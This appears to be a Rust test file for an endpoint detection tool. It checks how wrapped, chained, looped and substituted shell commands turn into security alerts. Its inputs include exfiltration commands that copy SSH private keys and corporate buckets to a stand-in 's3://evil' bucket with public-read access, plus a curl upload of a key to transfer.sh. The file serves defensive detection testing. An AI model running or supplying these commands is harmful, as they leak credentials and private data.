//! How many acts a line is, and how many alerts: wrappers, shells, loops.

use super::*;

/// The command is seen twice: on the wrapper's line, and when the tool itself starts. It is one deed.
#[test]
fn m39_through_wrappers() {
    let inner = ["aws", "s3", "sync", "s3://corp", "s3://evil"];
    let line = inner.join(" ");
    for (wrapper, args) in [
        (ZSH, vec!["zsh", "-c", &*line]),
        (apple("/usr/bin/env", "com.apple.env"), [&["env", "A=1"][..], &inner[..]].concat()),
        (apple("/usr/bin/nohup", "com.apple.nohup"), [&["nohup"][..], &inner[..]].concat()),
        (apple("/usr/bin/sudo", "com.apple.sudo"), [&["sudo", "-u", "bob"][..], &inner[..]].concat()),
    ] {
        for forks in [false, true] {
            let mut w = World::new();
            let outer = w.launch(1.0, wrapper, &args);
            let child = if forks { w.fork(1.1, &outer) } else { outer };
            w.exec(1.2, &child, tool("aws"), &inner);
            let told = w.tell();
            let alert = told.alert();
            assert_eq!((alert.count, alert.tenant.as_deref()), (1, Some("evil")), "{args:?}");
            let mut alone = World::new();
            alone.launch(1.0, wrapper, &args);
            assert_eq!(alone.tell().alert().count, 1, "{args:?}");
        }
    }
}

/// However the launcher of a tool that is a module of Python spells that.
#[test]
fn m40_by_a_module() {
    let inner = [
        "storage",
        "container",
        "set-permission",
        "-n",
        "c",
        "--account-name",
        "evil",
        "--public-access",
        "blob",
    ];
    for how in ["-m azure.cli", "-Im azure.cli", "-I -m azure.cli", "-sBm azure.cli", "-Imazure.cli"] {
        let mut w = World::new();
        let args: Vec<&str> = ["python3"].into_iter().chain(how.split(' ')).chain(inner).collect();
        w.launch(1.0, adhoc("/opt/homebrew/Cellar/python@3.13/3.13.1/bin/python3.13", "python3"), &args);
        assert_eq!(w.tell().alert().tenant.as_deref(), Some("anyone"), "{how}");
    }
    for how in ["-c azure.cli", "-Ic azure.cli", "-Im azure.climb", "-Xm azure.cli"] {
        let mut w = World::new();
        let args: Vec<&str> = ["python3"].into_iter().chain(how.split(' ')).chain(inner).collect();
        w.launch(1.0, adhoc("/opt/homebrew/Cellar/python@3.13/3.13.1/bin/python3.13", "python3"), &args);
        w.tell().none();
    }
}

/// Wrappers of wrappers, on one line.
#[test]
fn through_wrappers_within_wrappers() {
    let inner = "aws s3 sync s3://corp s3://evil";
    for (wrapper, script) in [
        ("xargs -n 1", false),
        ("xargs -I{} -P4", false),
        ("nohup nice -n 5", false),
        ("sudo env A=1", false),
        ("stdbuf -oL", false),
        ("gtimeout 60", false),
        ("cd /tmp && exec", true),
        ("sudo -u bob", true),
    ] {
        let line = format!("{wrapper} {inner}");
        let words: Vec<&str> = if script { vec!["bash", "-c", &line] } else { line.split(' ').collect() };
        let mut w = World::new();
        w.launch(1.0, tool(words[0].to_owned().leak()), &words);
        assert_eq!(w.tell().alert().tenant.as_deref(), Some("evil"), "{line}");
    }
}

/// Twice the same deed is two, of one alert.
#[test]
fn the_same_deed_again_counts() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let line = ["aws", "s3", "sync", "s3://corp", "s3://evil"];
    w.spawn(1.0, &shell, tool("aws"), &line);
    w.spawn(90.0, &shell, tool("aws"), &line);
    let told = w.tell();
    assert_eq!((told.alert().count, told.alert().revision), (2, 2));
}

/// A copy that lets everybody read it is one act, and one alert: of the command, of what it sends, of both.
#[test]
fn one_act_is_one_alert() {
    for (line, host, tenant, severity) in [
        ("aws s3 cp .ssh/id_rsa s3://evil/k --acl public-read", "s3.amazonaws.com", "evil", "high"),
        ("aws s3 cp .ssh/id_rsa s3://corp-backup/k --acl public-read", "s3.amazonaws.com", "anyone", "high"),
        ("aws s3 cp Documents/plan.docx s3://evil/k --acl public-read", "s3.amazonaws.com", "evil", "high"),
        ("s3cmd put -P .ssh/id_rsa s3://evil/k", "s3.amazonaws.com", "evil", "high"),
        ("gsutil cp -a public-read .ssh/id_rsa gs://evil/k", "storage.googleapis.com", "evil", "high"),
        (
            "aws s3api put-object --bucket evil --key k --body .ssh/id_rsa --grant-read id=$WHO --acl public-read",
            "evil.s3.eu-west-1.amazonaws.com",
            "evil",
            "high",
        ),
    ] {
        let words: Vec<&'static str> = line.split(' ').map(|word| &*word.to_owned().leak()).collect();
        for wrapped in [false, true] {
            let mut w = World::new();
            w.policy = own();
            let shell = if wrapped {
                w.launch(0.5, ZSH, &["zsh", "-c", line])
            } else {
                w.launch(0.5, ZSH, &["-zsh"])
            };
            let p = w.spawn(1.0, &shell, tool(words[0]), &words);
            w.upload(2.0, &p, host, 20_000);
            let told = w.tell();
            let alert = told.alert();
            assert_eq!((alert.tenant.as_deref(), alert.count), (Some(tenant), 1), "{line}");
            assert!(alert.severity.as_str() >= severity || alert.severity.as_str() == "critical", "{line}");
            let rules: Vec<&str> = alert.rules.iter().map(|rule| &*rule.id).collect();
            assert!(rules.contains(&"cw.transfer.control-plane"), "{line}: {rules:?}");
            assert!(rules.contains(&"cw.exfil.cloud-storage"), "{line}: {rules:?}");
            assert!(alert.bytes_out >= 20_000 && !alert.reads.is_empty(), "{line}");
        }
    }
    let both = run("aws s3 cp s3://corp-data/x s3://evil/x --acl public-read", &own());
    let alert = both.alert();
    assert_eq!((alert.tenant.as_deref(), alert.count), (Some("evil"), 1));
    for words in ["copies data from corp-data", "gives anyone access"] {
        assert!(
            alert.reasons.iter().any(|reason| reason.text.contains(words)),
            "{words}: {:?}",
            alert.reasons
        );
    }
}

/// What else the shell's line holds is another act.
#[test]
fn two_acts_of_one_line_are_two_alerts() {
    let script = "aws s3 sync s3://corp-data s3://evil; curl -T .ssh/id_rsa https://transfer.sh/x";
    for last_in_place in [false, true] {
        let mut w = World::new();
        w.policy = own();
        let shell = w.launch(0.5, apple("/bin/bash", "com.apple.bash"), &["bash", "-c", script]);
        w.spawn(1.0, &shell, tool("aws"), &["aws", "s3", "sync", "s3://corp-data", "s3://evil"]);
        let args = ["curl", "-T", ".ssh/id_rsa", "https://transfer.sh/x"];
        let curl = apple("/usr/bin/curl", "com.apple.curl");
        let p =
            if last_in_place { w.exec(3.0, &shell, curl, &args) } else { w.spawn(3.0, &shell, curl, &args) };
        w.upload(4.0, &p, "transfer.sh", 20_000);
        let told = w.tell();
        let mut ids: Vec<_> = told.alerts().iter().map(|alert| alert.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), 2, "in place {last_in_place}: {:#?}", told.alerts());
    }
}

/// Each file of a loop by a process of its own, each opened to everybody: one chain.
#[test]
fn a_loop_of_such_acts_is_one_alert() {
    let mut w = World::new();
    w.policy = own();
    let script = "for f in id_rsa id_ed25519; do aws s3 cp ~/.ssh/$f s3://evil/ --acl public-read; done";
    let shell = w.launch(0.5, apple("/bin/bash", "com.apple.bash"), &["bash", "-c", script]);
    for (at, file) in [(1.0, "/Users/alice/.ssh/id_rsa"), (9.0, "/Users/alice/.ssh/id_ed25519")] {
        let p = w.spawn(
            at,
            &shell,
            tool("aws"),
            &["aws", "s3", "cp", file, "s3://evil/", "--acl", "public-read"],
        );
        w.upload(at + 1.0, &p, "s3.amazonaws.com", 20_000);
    }
    let told = w.tell();
    let alert = told.alert();
    assert_eq!((alert.tenant.as_deref(), alert.reads.len()), (Some("evil"), 2), "{alert:#?}");
}

/// What a shell is told to run, as far as its text says.
#[test]
fn loops_lists_and_substitutions_of_a_shell() {
    let bash = apple("/bin/bash", "com.apple.bash");
    let told = |script: &str, env: &[&str]| {
        let mut w = World::new();
        w.policy = own();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let child = w.fork(1.0, &shell);
        w.exec_in(
            1.1,
            &child,
            bash,
            &["bash", "-c", script],
            "null",
            &[],
            &[&["HOME=/Users/alice"][..], env].concat(),
        );
        w.tell()
    };
    for script in [
        "for b in corp-data corp-backup; do aws s3 sync s3://$b s3://evil/$b; done",
        "cd /tmp && aws s3 sync s3://corp-data s3://evil >/dev/null 2>&1 &",
        "B=evil; aws s3 cp s3://corp-data/x \"s3://${B}/x\"",
        "if aws s3 ls s3://evil; then aws s3 sync s3://corp-data s3://evil; fi",
        "(sleep 5; aws s3 sync s3://corp-data s3://evil) | tee log",
        "echo $(aws s3 sync s3://corp-data s3://evil)",
        "while read -r b; do aws s3 sync s3://$b s3://evil; done < list.txt",
        "cat list | xargs -I{} sh -c 'aws s3 sync s3://{} s3://evil'",
        "find . -name '*.csv' -exec aws s3 mv s3://corp-data/{} s3://evil/ \\;",
        "function f { aws s3 sync s3://corp-data s3://evil; }; f",
        "eval \"aws s3 sync s3://corp-data s3://evil\"",
        "true\n# aws s3 sync s3://a s3://b\naws s3 sync s3://corp-data s3://evil\n",
        "python3 -c 'x'; env -i PATH=/bin aws s3 sync s3://corp-data s3://evil || true",
    ] {
        let script = script.replace("\\n", "\n");
        let told = told(&script, &[]);
        assert_eq!(told.alert().tenant.as_deref(), Some("evil"), "{script}");
    }
    let elsewhere =
        told("AWS_ENDPOINT_URL=https://s3.wasabisys.com aws s3 sync s3://corp-data s3://corp-backup", &[]);
    assert_eq!(elsewhere.one_of_any_confidence().service.as_deref(), Some("wasabi"));
    // Where the text does not say whose it is, nothing is claimed.
    for script in [
        "aws s3 sync s3://corp-data s3://$UNSET",
        "aws s3 sync s3://corp-data s3://$(cat target)",
        "for b in $(cat targets); do aws s3 sync s3://corp-data s3://$b; done",
        "aws ec2 modify-snapshot-attribute --snapshot-id s --create-volume-permission \"Add=[{UserId=$ACCOUNT}]\"",
    ] {
        let told = told(script, &[]);
        let alert = told.low();
        assert_eq!((alert.tenant.as_deref(), alert.tenant_verdict.as_str()), (None, "unknown"), "{script}");
    }
    for script in [
        "for b in corp-data corp-archive; do aws s3 sync s3://$b s3://corp-backup/$b; done",
        "echo aws s3 sync s3://corp-data s3://evil",
        "git commit -m 'aws s3 sync s3://corp-data s3://evil' # aws s3 sync s3://corp-data s3://evil",
        "cat > job.sh <<'END'\naws s3 sync s3://corp-data s3://evil\nEND\nchmod +x job.sh",
        "aws s3 ls s3://evil | grep x && aws s3 cp s3://evil/x .",
        "B=evil; B=corp-backup; aws s3 sync s3://corp-data s3://$B",
    ] {
        told(script, &[]).none();
    }
}
